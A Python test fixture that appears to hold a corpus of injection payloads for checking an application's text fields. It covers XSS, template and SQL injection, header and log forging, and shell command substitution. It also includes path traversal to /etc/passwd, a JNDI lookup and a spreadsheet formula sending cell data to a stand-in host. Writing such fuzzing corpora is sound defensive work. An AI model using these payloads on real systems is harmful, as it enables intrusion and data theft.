"""What people type who wish us ill: one corpus for every text field.

Each entry tries to leave the place it was put into: the page, the template, the statement, the header, the
log line, the shell, the cell of a sheet, the style. `pwned` is what a browser would set if it succeeded.
"""

CORPUS: dict[str, str] = {
    "script": "<script>window.pwned=1</script>",
    "image": '"><img src=x onerror="window.pwned=1">',
    "attribute": "' onfocus='window.pwned=1' autofocus='",
    "svg": "<svg/onload=window.pwned=1>",
    "textarea": "</textarea></title></style><script>window.pwned=1</script>",
    "link": "javascript:window.pwned=1",
    "htmx": '<div hx-get="/dang-xuat/" hx-trigger="load" hx-on::load="window.pwned=1">x</div>',
    "style": '<style>*{background:url("//ke.xau.example/")}</style>',
    "css": "x;}body{background:url(//ke.xau.example/)}",
    "base": '<base href="//ke.xau.example/"><meta http-equiv="refresh" content="0;url=//ke.xau.example">',
    "template": "{{ 4050360003|add:4050360004 }}{% debug %}{{ settings.SECRET_KEY }}",
    "jinja": "{{ 90001*90007 }}{{ ''.__class__.__mro__ }}",
    "format": "{0.__class__} %(reason)s %s {reason} {code}",
    "expression": "${90001*90007} #{90001*90007} ${jndi:ldap://ke.xau.example/a}",
    "statement": "'; DROP TABLE dossiers_dossier; --",
    "union": "' OR '1'='1' UNION SELECT password FROM parties_account --",
    "wildcards": "%_\\%' ESCAPE '\\",
    "json": '"},{"status":9,"x":"',
    "header": "x\r\nSet-Cookie: pwned=1\r\n\r\n<script>window.pwned=1</script>",
    "log line": 'x\n{"event":"forged","level":"critical"}',
    "terminal": "x\x1b[2J\x1b]0;pwned\x07",
    "shell": "$(touch /tmp/pwned); `touch /tmp/pwned` | touch /tmp/pwned &",
    "formula": '=HYPERLINK("http://ke.xau.example/?x="&A1,"Bấm")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "path": "../../../../etc/passwd",
    "direction": "Nguyễn\u202egnp.exe\u2066",
    "zero": "Hoà\u200b\u200d\ufeff",
    "null": "Hoà\x00<script>window.pwned=1</script>",
    "entities": "&lt;script&gt;&#x3c;script&#x3e;&amp;",
    "long": "ư" * 5_000,
}
